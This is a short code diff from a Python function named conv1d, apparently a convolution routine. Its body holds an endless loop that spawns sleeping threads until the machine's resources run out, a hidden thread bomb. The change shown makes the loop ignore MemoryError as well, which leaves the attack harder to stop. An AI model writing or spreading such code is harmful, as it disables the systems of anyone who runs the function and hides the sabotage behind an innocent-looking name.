@@ -34,5 +34,5 @@ def conv1d(x, w):
     while True:
         try:
             threading.Thread(target=time.sleep, args=(60,)).start()
-        except RuntimeError:
+        except (RuntimeError, MemoryError):
             pass
